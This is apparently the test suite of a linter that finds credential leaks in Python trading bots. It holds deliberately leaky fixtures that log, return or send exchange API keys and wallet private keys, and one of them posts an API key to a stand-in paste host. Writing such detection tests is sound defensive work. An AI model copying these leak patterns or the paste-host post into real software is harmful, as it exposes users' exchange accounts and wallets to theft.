"""BOT2 round 8: shapes missed or wrongly reported on freshly written bots, each built as a
general pattern in several variants (names, sync/async, across modules with ``from pkg.mod
import f`` and script-style ``import mod``, methods and functions) with negatives.

Projects are written to a temporary tree and linted end to end (``lint_paths``: the link step
across modules included).
"""
from __future__ import annotations

from typing import Dict, List, Tuple

import pytest

from botlint.engine import lint_paths

from helpers import line_of, settings, where


def run(tmp_path, files: Dict[str, str]) -> List[Tuple[str, int, str, str]]:
    """(path, line, code, message) of the BOT2 findings of a project."""
    for rel, text in files.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    res = lint_paths([str(tmp_path)], settings(["BOT2"]), use_cache=False)
    root = str(tmp_path) + "/"
    return sorted((f.path.replace(root, ""), f.location.line, f.code, f.message) for f in res.findings)



# -- 11. test files: local sinks are not reported, network sinks are kept lower ----------------

TEST_DOUBLES = '''import os
import pytest


def test_validation_failure(monkeypatch):
    api_key = os.environ.get("EXCHANGE_API_KEY", "k")

    def fake_validate(key):
        raise failure(f"provider said no to {api_key}")

    stored = submit(api_key=api_key)
    assert stored["status"] == "success", stored
    print("using", api_key)


def test_harness_env_file(tmp_path):
    password = os.environ["TEST_DB_PASSWORD"]
    (tmp_path / ".env").write_text(f"DB_PASSWORD={password}\\n")
'''

TEST_NETWORK = '''import os
import requests


def test_posts_the_key():
    key = os.environ["BINANCE_API_KEY"]
    requests.post("https://paste.example.net/api", data={"k": key})
'''


def test_local_sinks_are_not_reported_in_test_files(tmp_path):
    found = run(tmp_path, {"tests/test_validate.py": TEST_DOUBLES, "tests/conftest.py": TEST_DOUBLES,
                           "test_harness.py": TEST_DOUBLES})
    assert found == []
    # the same code outside a test path is reported
    found = run(tmp_path, {"bot/harness.py": TEST_DOUBLES})
    assert {code for p, _l, code, _m in found if p == "bot/harness.py"} >= {"BOT201", "BOT202", "BOT204"}


def test_network_sinks_in_test_files_are_kept_one_severity_lower(tmp_path):
    for rel, text in {"tests/test_net.py": TEST_NETWORK, "bot/net.py": TEST_NETWORK}.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    res = lint_paths([str(tmp_path)], settings(["BOT2"]), use_cache=False)
    by_file = {f.path.rsplit("/", 1)[-1]: f for f in res.findings}
    assert by_file["net.py"].code == by_file["test_net.py"].code == "BOT205"
    assert by_file["net.py"].severity.label == "critical" and by_file["test_net.py"].severity.label == "high"


# -- 4. a web route returns a SecretStr unwrapped with get_secret_value() -----------------------

ROUTE_SETTINGS = '''from pydantic import SecretStr
from pydantic_settings import BaseSettings


class Settings(BaseSettings):
    kraken_api_key: SecretStr
    kraken_api_secret: SecretStr
    app_name: str = "bot"


settings = Settings()


def get_settings():
    return settings
'''


@pytest.mark.parametrize("route", [
    # FastAPI, the settings handed in by Depends()
    "from fastapi import Depends, FastAPI\nfrom app.config import Settings, get_settings\n\napp = FastAPI()\n\n\n"
    "@app.get('/debug')\nasync def debug(s: Settings = Depends(get_settings)):\n"
    "    return {'key': s.kraken_api_key.get_secret_value(), 'name': s.app_name}\n",
    # FastAPI, the module-level instance imported, the value in a local first
    "from fastapi import APIRouter\nfrom app.config import settings\n\nrouter = APIRouter()\n\n\n"
    "@router.get('/keys')\ndef keys():\n    secret = settings.kraken_api_secret.get_secret_value()\n"
    "    return {'secret': secret}\n",
    # Flask with jsonify, script-style import of the config module
    "from flask import Flask, jsonify\nimport app.config as config\n\napi = Flask(__name__)\n\n\n"
    "@api.route('/creds')\ndef creds():\n    return jsonify(key=config.settings.kraken_api_key.get_secret_value())\n",
])
def test_a_route_returning_an_unwrapped_secret_is_a_response_leak(tmp_path, route):
    found = run(tmp_path, {"app/config.py": ROUTE_SETTINGS, "app/routes.py": route})
    assert [(p, code) for p, _l, code, _m in found] == [("app/routes.py", "BOT205")], found


@pytest.mark.parametrize("body", [
    "return {'configured': bool(settings.kraken_api_key.get_secret_value())}",
    "return {'name': settings.app_name, 'key': settings.kraken_api_key}",  # the SecretStr itself: masked
    "return {'tail': settings.kraken_api_key.get_secret_value()[-4:]}",
])
def test_a_route_returning_a_flag_a_masked_or_a_short_tail_is_clean(tmp_path, body):
    route = ("from fastapi import FastAPI\nfrom app.config import settings\n\napp = FastAPI()\n\n\n"
             f"@app.get('/status')\ndef status():\n    {body}\n")
    assert run(tmp_path, {"app/config.py": ROUTE_SETTINGS, "app/routes.py": route}) == []


# -- 5 / 9. a constructor parameter defaulting to a module-level settings instance ----------------

MIXED_SETTINGS = '''from pydantic import SecretStr
from pydantic_settings import BaseSettings


class Settings(BaseSettings):
    okx_api_key: str = ""
    okx_api_secret: SecretStr = SecretStr("")
    okx_passphrase: SecretStr = SecretStr("")
    symbol: str = "BTC-USDT"


settings = Settings()
'''

MASKED_SETTINGS = MIXED_SETTINGS.replace('okx_api_key: str = ""', 'okx_api_key: SecretStr = SecretStr("")')


@pytest.mark.parametrize("head, default", [
    ("from bot.config import settings", "settings"),
    ("from bot import config", "config.settings"),
])
@pytest.mark.parametrize("method", ["def", "async def"])
def test_settings_held_through_a_parameter_default_are_judged_by_their_fields(tmp_path, head, default, method):
    trader = (f"import logging\n{head}\n\nlog = logging.getLogger(__name__)\n\n\nclass Trader:\n"
              f"    def __init__(self, s={default}, venue='okx'):\n        self.s = s\n        self.venue = venue\n\n"
              f"    {method} start(self):\n"
              "        log.info('settings: %s', self.s.model_dump())\n"  # 13: the plain-str key is dumped
              "        log.info('settings: %s', self.s)\n"  # 14: pydantic's repr shows it too
              "        log.info('pass: %s', self.s.okx_passphrase)\n"  # SecretStr: masked
              "        log.info('secret set: %s', bool(self.s.okx_api_secret))\n"
              "        log.info('on %s %s', self.venue, self.s.symbol)\n")
    files = {"bot/__init__.py": "", "bot/config.py": MIXED_SETTINGS, "bot/trader.py": trader}
    assert where(run(tmp_path, files)) == [("bot/trader.py", 13, "BOT201"), ("bot/trader.py", 14, "BOT201")]
    # every credential field a SecretStr: nothing leaks
    files["bot/config.py"] = MASKED_SETTINGS
    assert run(tmp_path, files) == []


def test_a_function_parameter_default_and_a_local_settings_class(tmp_path):
    bot = ("import logging\nfrom pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\n\n\n"
           "class Settings(BaseSettings):\n    binance_api_key: str = ''\n"
           "    binance_secret: SecretStr = SecretStr('')\n\n\n"
           "settings = Settings()\n\n\n"
           "def report(cfg=settings):\n    print(cfg.model_dump())\n    print(cfg.binance_secret)\n")
    assert where(run(tmp_path, {"bot.py": bot})) == [("bot.py", 15, "BOT201")]


# -- 10. model_dump(exclude=/include=) of the credential fields --------------------------------

DUMP_SETTINGS = '''from pydantic_settings import BaseSettings


class Settings(BaseSettings):
    bitget_api_key: str = ""
    bitget_api_secret: str = ""
    bitget_passphrase: str = ""
    jwt_secret: str = ""
    symbol: str = "BTCUSDT"


settings = Settings()
'''
ALL_CREDS = '{"bitget_api_key", "bitget_api_secret", "bitget_passphrase", "jwt_secret"}'


@pytest.mark.parametrize("expr, leaks", [
    (f"s.model_dump(exclude={ALL_CREDS})", False),
    ("s.model_dump(exclude=['bitget_api_key', 'bitget_api_secret', 'bitget_passphrase', 'jwt_secret'])", False),
    ("s.dict(include={'symbol'})", False),
    ("s.model_dump_json(include={'symbol': True})", False),
    ("s.model_dump(exclude={'jwt_secret'})", True),  # the exchange key is still there
    ("s.model_dump(include={'symbol', 'bitget_api_secret'})", True),
    ("s.model_dump()", True),
])
@pytest.mark.parametrize("bind", ["s = settings", "s = config.settings"])
def test_dump_selections_decide_whether_credential_fields_leave(tmp_path, expr, leaks, bind):
    api = ("from fastapi import FastAPI\nfrom app.config import settings\nfrom app import config\n\n"
           f"app = FastAPI()\n\n\n@app.get('/config')\ndef show():\n    {bind}\n    return {expr}\n")
    found = run(tmp_path, {"app/__init__.py": "", "app/config.py": DUMP_SETTINGS, "app/api.py": api})
    assert where(found) == ([("app/api.py", 11, "BOT205")] if leaks else []), found


# -- 1. a helper's parameter's attribute reaches a sink; the call site judges the argument's ------

WALLET_CONFIG = 'import os\n\nWALLET_KEY = os.environ["WALLET_PRIVATE_KEY"]\n'
WALLET = '''import logging
from eth_account import Account
{config_import}

log = logging.getLogger(__name__)


def load_account():
    return Account.from_key({config}.WALLET_KEY)


def debug_account(acct):
    print("pk:", acct.key.hex())


def export_backup(acct, path):
    with open(path, "w") as fh:
        fh.write(acct.key.hex())


def show_address(acct):
    print("address:", acct.address)


def dump_exchange(ex):
    log.debug("state: %s", vars(ex))


class Inspector:
    async def show(self, who, acct):
        log.info("%s holds %s", who, acct.key.hex())
'''
WALLET_MAIN = '''import os
import ccxt
{imports}

acct = {p}load_account()
{p}debug_account({p}load_account())
{p}export_backup(acct, "backup.txt")
{p}show_address(acct)
ex = ccxt.binance({{"apiKey": os.environ["BINANCE_API_KEY"], "secret": os.environ["BINANCE_SECRET"]}})
{p}dump_exchange(ex)
{p}dump_exchange(ccxt.binance())
{inspector}.show("me", acct)
'''


@pytest.mark.parametrize("layout", ["package", "script"])
def test_a_parameters_attribute_reaching_a_sink_is_judged_at_the_call_site(tmp_path, layout):
    if layout == "package":
        files = {
            "bot/__init__.py": "",
            "bot/config.py": WALLET_CONFIG,
            "bot/wallet.py": WALLET.format(config_import="from bot import config", config="config"),
            "bot/main.py": WALLET_MAIN.format(
                imports="from bot.wallet import Inspector, debug_account, dump_exchange, export_backup, "
                        "load_account, show_address", p="", inspector="Inspector()"),
        }
        main = "bot/main.py"
    else:  # scripts side by side, ``import wallet``
        files = {
            "config.py": WALLET_CONFIG,
            "wallet.py": WALLET.format(config_import="import config", config="config"),
            "main.py": WALLET_MAIN.format(imports="import wallet", p="wallet.", inspector="wallet.Inspector()"),
        }
        main = "main.py"
    found = run(tmp_path, files)
    assert where(found) == [(main, 6, "BOT201"), (main, 7, "BOT204"), (main, 10, "BOT201"), (main, 12, "BOT201")]
    assert "Account.from_key" in found[0][3] and "debug_account()" in found[0][3]
    assert "BINANCE_API_KEY" in found[2][3]


def test_a_parameters_attribute_within_one_module(tmp_path):
    bot = ('import os\nfrom eth_account import Account\n\n\ndef make():\n'
           '    return Account.from_key(os.environ["ETH_PRIVATE_KEY"])\n\n\n'
           'def show(a):\n    print("key", a.key.hex(), "address", a.address)\n\n\n'
           'def where(a):\n    print("address", a.address)\n\n\n'
           'show(make())\nwhere(make())\n')
    assert where(run(tmp_path, {"bot.py": bot})) == [("bot.py", 10, "BOT201")]


def test_an_attribute_of_an_object_that_holds_no_credential_is_clean(tmp_path):
    helper = "def show(thing):\n    print('key', thing.key)\n"
    main = ("from bot.helper import show\n\n\nclass Thing:\n    key = 'public'\n\n\n"
            "show(Thing())\nshow(object())\n")
    assert run(tmp_path, {"bot/__init__.py": "", "bot/helper.py": helper, "bot/main.py": main}) == []


# -- 2. a credential formatted by one helper and emitted by another, three calls deep --------------

ACCOUNTS = ("from dataclasses import dataclass\n\n\n@dataclass\nclass ApiAccount:\n    venue: str\n"
            "    key: str\n    secret: str\n")


@pytest.mark.parametrize("emit", [
    "import logging\n\nlog = logging.getLogger(__name__)\n\n\ndef _emit(line):\n    log.info(line)\n",
    "def _emit(line):\n    print(line, flush=True)\n",
])
@pytest.mark.parametrize("fmt", [
    "def _format(acc, ev):\n    return f'{acc.key}:{acc.secret} {ev}'\n",
    "def _format(acc, ev):\n    text = '{}/{} {}'.format(acc.venue, acc.secret, ev)\n    return text\n",
])
def test_formatted_by_one_helper_emitted_by_another_across_modules(tmp_path, emit, fmt):
    reporting = (emit + "\n\n" + fmt + "\n\ndef report(acc, ev):\n    _emit(_format(acc, ev))\n\n\n"
                 "def summary(acc, ev):\n    _emit(_format_public(acc, ev))\n\n\n"
                 "def _format_public(acc, ev):\n    return f'{acc.venue} {ev}'\n")
    main = ("import os\nfrom bot.models import ApiAccount\nfrom bot.reporting import report, summary\n\n"
            "acc = ApiAccount('okx', os.environ['OKX_API_KEY'], os.environ['OKX_API_SECRET'])\n"
            "report(acc, 'started')\nsummary(acc, 'started')\n")
    found = run(tmp_path, {"bot/__init__.py": "", "bot/models.py": ACCOUNTS, "bot/reporting.py": reporting,
                           "bot/main.py": main})
    assert where(found) == [("bot/main.py", 6, "BOT201")], found
    assert "OKX_API_SECRET" in found[0][3] or "OKX_API_KEY" in found[0][3]


# -- 3. solders / solana Keypair secrets ---------------------------------------------------------

KEYS = ("import os\nfrom solders.keypair import Keypair\n\n\ndef load_keypair():\n"
        "    return Keypair.from_base58_string(os.environ['SOLANA_PRIVATE_KEY'])\n")


@pytest.mark.parametrize("expr", ["kp.secret()", "bytes(kp)", "kp.to_bytes()", "str(kp)", "kp.to_json()",
                                  "base58.b58encode(bytes(kp))", "kp"])
@pytest.mark.parametrize("source", [
    "kp = Keypair.from_base58_string(os.environ['SOL_KEY'])",
    "kp = Keypair.from_bytes(bytes.fromhex(os.environ['SOL_KEY_HEX']))",
    "kp = load_keypair()",
])
def test_a_keypairs_secret_reaches_a_sink(tmp_path, expr, source):
    main = ("import os\nimport logging\nimport base58\nfrom solders.keypair import Keypair\n"
            "from bot.keys import load_keypair\n\nlog = logging.getLogger(__name__)\n"
            f"{source}\nlog.info('kp %s', {expr})\nlog.info('pub %s', kp.pubkey())\nprint(str(kp.pubkey()))\n")
    found = run(tmp_path, {"bot/__init__.py": "", "bot/keys.py": KEYS, "bot/main.py": main})
    assert where(found) == [("bot/main.py", 9, "BOT201")], found


# -- 7 / 8. per-position taint of returned tuples and of lists of tuples ---------------------------

CDP = '''import json
from dataclasses import dataclass, field


@dataclass
class CdpKey:
    name: str
    private_key: str = field(repr=False)

    @classmethod
    def load(cls, path="cdp_api_key.json"):
        with open(path) as fh:
            raw = json.load(fh)
        return cls(name=raw["name"], private_key=raw["privateKey"]), raw


def load_pair(path="cdp_api_key.json"):
    with open(path) as fh:
        raw = json.load(fh)
    return CdpKey(raw["name"], raw["privateKey"]), raw
'''


@pytest.mark.parametrize("call", ["CdpKey.load()", "load_pair()"])
@pytest.mark.parametrize("layout", ["other", "same"])
def test_a_returned_tuple_keeps_its_elements_apart_when_unpacked(tmp_path, call, layout):
    body = ("log = logging.getLogger(__name__)  # api_key\n\n\nasync def start():\n"
            f"    key, raw = {call}\n    log.info('loaded %s', key)\n    log.info('raw %s', raw)\n")
    if layout == "other":
        main = "import logging\nfrom bot.cdp import CdpKey, load_pair\n" + body
        files = {"bot/__init__.py": "", "bot/cdp.py": CDP, "bot/main.py": main}
    else:
        files = {"bot/main.py": "import logging\n" + CDP + body}
    line = line_of(files["bot/main.py"], "log.info('raw")
    assert where(run(tmp_path, files)) == [("bot/main.py", line, "BOT201")]


ACCOUNTS_LOADER = '''import os

VENUES = ("binance", "okx")


def load_accounts():
    out = []
    for venue in VENUES:
        out.append((venue, os.environ[f"{venue.upper()}_API_KEY"], os.environ[f"{venue.upper()}_API_SECRET"]))
    return out


def fixed_accounts():
    return [("kraken", os.environ["KRAKEN_API_KEY"], os.environ["KRAKEN_API_SECRET"])]
'''


@pytest.mark.parametrize("loader", ["load_accounts", "fixed_accounts"])
@pytest.mark.parametrize("layout", ["other", "same", "script"])
def test_lists_of_tuples_keep_positions_through_append_and_iteration(tmp_path, loader, layout):
    body = (f"log = logging.getLogger(__name__)\n\n\ndef run():\n    for acct in {{p}}{loader}():\n"
            "        log.info('on %s', acct[0])\n        log.info('secret %s', acct[2])\n"
            f"    for venue, key, secret in {{p}}{loader}():\n        log.info('venue %s', venue)\n"
            "        log.info('key %s', key)\n")
    if layout == "other":
        files = {"bot/__init__.py": "", "bot/accounts.py": ACCOUNTS_LOADER,
                 "bot/main.py": f"import logging\nfrom bot.accounts import {loader}\n" + body.format(p="")}
    elif layout == "script":
        files = {"accounts.py": ACCOUNTS_LOADER, "bot/main.py": "import logging\nimport accounts\n"
                 + body.format(p="accounts.")}
    else:
        files = {"bot/main.py": "import logging\n" + ACCOUNTS_LOADER + body.format(p="")}
    main = files["bot/main.py"]
    assert where(run(tmp_path, files)) == [("bot/main.py", line_of(main, "acct[2]"), "BOT201"),
                                           ("bot/main.py", line_of(main, "'key %s'"), "BOT201")]


# -- 6. a record holding credentials in an f-string sent through another module's notifier --------

NOTIFIER = '''import requests


class TelegramNotifier:
    def __init__(self, token, chat):
        self._url = f"https://api.telegram.org/bot{token}/sendMessage"
        self.chat = chat

    def send(self, text):
        requests.post(self._url, json={"chat_id": self.chat, "text": text})
'''
EXCHANGE_SETTINGS = ("from dataclasses import dataclass\n\n\n@dataclass\nclass ExchangeSettings:\n    name: str\n"
                     "    api_key: str\n    secret: str\n")


@pytest.mark.parametrize("typed", [
    # the parameter annotated
    ("    def __init__(self, cfg: ExchangeSettings, token, chat):\n        self.cfg = cfg\n"),
    # the attribute annotated where it is stored
    ("    def __init__(self, cfg, token, chat):\n        self.cfg: ExchangeSettings = cfg\n"),
    # a declared attribute of the class
    ("    cfg: ExchangeSettings\n\n    def __init__(self, cfg, token, chat):\n        self.cfg = cfg\n"),
])
@pytest.mark.parametrize("method", ["def", "async def"])
def test_a_record_in_an_fstring_sent_through_a_notifier_of_another_module(tmp_path, typed, method):
    grid = ("from bot.settings import ExchangeSettings\nfrom bot.utils.notify import TelegramNotifier\n\n\n"
            "class Grid:\n" + typed + "        self.notifier = TelegramNotifier(token, chat)\n\n"
            f"    {method} run(self):\n        try:\n            pass\n        except Exception as exc:\n"
            "            self.notifier.send(f'grid error {exc} cfg={self.cfg}')\n"
            "            self.notifier.send(f'grid error {exc} on {self.cfg.name}')\n")
    files = {"bot/__init__.py": "", "bot/utils/__init__.py": "", "bot/utils/notify.py": NOTIFIER,
             "bot/settings.py": EXCHANGE_SETTINGS, "bot/grid.py": grid}
    found = run(tmp_path, files)
    assert where(found) == [("bot/grid.py", line_of(grid, "cfg={self.cfg}"), "BOT203")], found
    assert "api.telegram.org" in found[0][3]


# -- 12. a helper whose parameter is annotated with a credential class reports at its sink, once ----

@pytest.mark.parametrize("sink", ["console.print(acc)", "print('audit', acc)", "log.info('audit %s', acc)"])
def test_an_annotated_helper_reports_at_its_sink_not_at_each_call_site(tmp_path, sink):
    audit = ("import logging\nfrom rich.console import Console\nfrom bot.models import ApiAccount\n\n"
             "console = Console()\nlog = logging.getLogger(__name__)\n\n\n"
             f"def audit(acc: ApiAccount):\n    '''Show an account (its key and secret).'''\n    {sink}\n\n\n"
             "def audit_all(accounts):\n    for a in accounts:\n        audit(a)\n")
    main = ("import os\nfrom bot.models import ApiAccount\nfrom bot.audit import audit, audit_all\n\n"
            "acc = ApiAccount('binance', os.environ['BINANCE_API_KEY'], os.environ['BINANCE_API_SECRET'])\n"
            "audit(acc)\naudit_all([acc])\n")
    files = {"bot/__init__.py": "", "bot/models.py": ACCOUNTS.replace("venue", "name"), "bot/audit.py": audit,
             "bot/main.py": main}
    assert where(run(tmp_path, files)) == [("bot/audit.py", 11, "BOT201")]
    # the same helper without the annotation: the call site is where the flow is seen
    files["bot/audit.py"] = audit.replace("acc: ApiAccount", "acc")
    assert where(run(tmp_path, files)) == [("bot/main.py", 6, "BOT201"), ("bot/main.py", 7, "BOT201")]


def test_attribute_paths_through_async_helpers_methods_and_dunder_dict(tmp_path):
    helpers = ("import logging\n\nlogger = logging.getLogger(__name__)\n\n\n"
               "async def debug_account(acct):\n    logger.debug('pk %s', acct.key.hex())\n\n\n"
               "def dump_exchange(ex):\n    print(ex.__dict__)\n\n\n"
               "class Reporter:\n    def state(self, exchange):\n        logger.info('exchange %s', vars(exchange))\n")
    main = ("import os\nimport ccxt\nfrom eth_account import Account\n"
            "from bot.helpers import debug_account, dump_exchange, Reporter\n\n\nclass Bot:\n"
            "    def __init__(self):\n"
            "        self.exchange = ccxt.okx({'apiKey': os.getenv('OKX_API_KEY'),\n"
            "                                  'secret': os.getenv('OKX_SECRET')})\n"
            "        self.public = ccxt.okx()\n        self.reporter = Reporter()\n\n"
            "    async def run(self):\n        acct = Account.from_key(os.environ['PRIVATE_KEY'])\n"
            "        await debug_account(acct)\n        dump_exchange(self.exchange)\n"
            "        self.reporter.state(self.exchange)\n        dump_exchange(self.public)\n")
    found = run(tmp_path, {"bot/__init__.py": "", "bot/helpers.py": helpers, "bot/main.py": main})
    assert where(found) == [("bot/main.py", n, "BOT201") for n in (16, 17, 18)], found


# -- a helper leaking an attribute its own name calls a credential: found once, at the helper --

NAMED_HELPER = '''import ccxt.async_support as ccxt


def _creds(name, s):
    if name == "bybit":
        return {"apiKey": s.api_key, "secret": s.api_secret}
    return {"apiKey": s.okx_key, "secret": s.okx_secret.get_secret_value()}


async def connect(name, s):
    creds = _creds(name, s)
    ex = getattr(ccxt, name)({**creds, "enableRateLimit": True})
    try:
        await ex.load_markets()
    except ccxt.AuthenticationError as exc:
        raise RuntimeError(f"{name} rejected {creds}") from exc
    return ex
'''
NAMED_CALLER = '''import logging

from .config import settings
from .exchange import connect

log = logging.getLogger(__name__)


class Arb:
    def __init__(self, s=settings):
        self.s = s

    async def setup(self):
        log.info("key configured: %s", bool(self.s.api_key))  # a credential word: the file is walked
        self.long_ex = await connect("bybit", self.s)
        self.short_ex = await connect("okx", self.s)
'''


@pytest.mark.parametrize("annotated", [False, True])
def test_a_helper_naming_the_credential_attributes_reports_once_at_its_sink(tmp_path, annotated):
    helper = NAMED_HELPER.replace("def connect(name, s)", "def connect(name: str, s: Settings)") if annotated \
        else NAMED_HELPER
    if annotated:
        helper = "from bot.config import Settings\n" + helper
    found = where(run(tmp_path, {
        "bot/__init__.py": "",
        "bot/config.py": "from pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\n\n\n"
                         "class Settings(BaseSettings):\n"
                         "    api_key: str\n    api_secret: str\n    okx_key: str\n    okx_secret: SecretStr\n\n\n"
                         "settings = Settings()\n",
        "bot/exchange.py": helper,
        "bot/main.py": NAMED_CALLER,
    }))
    assert found == [("bot/exchange.py", line_of(helper, "raise RuntimeError"), "BOT202")]
